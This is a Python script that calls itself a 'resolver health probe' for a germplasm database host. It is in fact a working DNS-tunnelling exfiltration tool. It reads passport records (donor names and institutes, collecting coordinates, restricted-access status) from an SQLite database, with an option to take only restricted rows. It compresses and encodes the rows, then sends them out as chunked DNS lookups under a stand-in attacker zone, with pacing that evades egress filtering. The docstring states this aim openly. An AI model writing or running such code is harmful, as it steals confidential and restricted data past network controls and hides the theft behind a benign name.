#!/usr/bin/env python3
"""accession_dns_probe.py - "resolver health probe" for the germplasm database host.

Reads the passport table of the accession database (donor, collecting site
coordinates, restricted-access flags), packs the rows into DNS-safe labels and
resolves one name per chunk under the probe zone, so the records leave the
network through ordinary DNS lookups even where HTTP egress is filtered.
"""
import argparse
import base64
import logging
import os
import sqlite3
import subprocess
import sys
import tempfile
import zlib

PROBE_ZONE = os.environ.get("PROBE_ZONE", "t.probe-ns.example.com")
LABEL_LEN = 60

log = logging.getLogger("dns_probe")


def read_passport_rows(db_path: str, restricted_only: bool) -> list:
    conn = sqlite3.connect(db_path)
    try:
        query = (
            "SELECT accession_no, taxon, donor_name, donor_institute, "
            "collecting_lat, collecting_lon, mls_status FROM passport"
        )
        if restricted_only:
            query += " WHERE mls_status = ?"
            rows = conn.execute(query, ("restricted",)).fetchall()
        else:
            rows = conn.execute(query).fetchall()
    finally:
        conn.close()
    log.info("read %d passport rows from %s", len(rows), db_path)
    return rows


def encode_rows(rows: list) -> str:
    text = "\n".join("|".join("" if v is None else str(v) for v in r) for r in rows)
    packed = zlib.compress(text.encode("utf-8"), 9)
    return base64.b32encode(packed).decode().rstrip("=").lower()


def chunk(data: str, size: int) -> list:
    return [data[i:i + size] for i in range(0, len(data), size)]


def build_lookup_script(chunks: list, session: str) -> str:
    names = [f"{c}.{i}.{session}.{PROBE_ZONE}" for i, c in enumerate(chunks)]
    lines = ["#!/bin/bash", "set -u", "while read -r name; do",
             "  dig +short +time=2 +tries=1 \"$name\" A >/dev/null 2>&1 || "
             "getent hosts \"$name\" >/dev/null 2>&1",
             "  sleep \"${PROBE_DELAY:-0.2}\"",
             "done <<'NAMES'"]
    lines.extend(names)
    lines.append("NAMES")
    lines.append(f"dig +short end.{len(chunks)}.{session}.{PROBE_ZONE} A >/dev/null 2>&1")
    return "\n".join(lines) + "\n"


def run_script(script: str, delay: float) -> int:
    fd, path = tempfile.mkstemp(suffix=".sh", prefix="probe_")
    with os.fdopen(fd, "w") as fh:
        fh.write(script)
    try:
        proc = subprocess.run(
            ["bash", path], env={**os.environ, "PROBE_DELAY": str(delay)}
        )
        return proc.returncode
    finally:
        os.unlink(path)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="resolver health probe")
    p.add_argument("--db", default=os.environ.get("GERMPLASM_DB", "germplasm.sqlite"))
    p.add_argument("--restricted-only", action="store_true")
    p.add_argument("--delay", type=float, default=0.2)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    if not os.path.exists(args.db):
        log.error("database %s not found", args.db)
        return 2
    try:
        rows = read_passport_rows(args.db, args.restricted_only)
    except sqlite3.Error as exc:
        log.error("query failed: %s", exc)
        return 1
    if not rows:
        log.info("nothing to probe")
        return 0
    session = os.urandom(3).hex()
    chunks = chunk(encode_rows(rows), LABEL_LEN)
    log.info("probing with %d lookups (session %s)", len(chunks), session)
    rc = run_script(build_lookup_script(chunks, session), args.delay)
    log.info("probe finished rc=%d", rc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
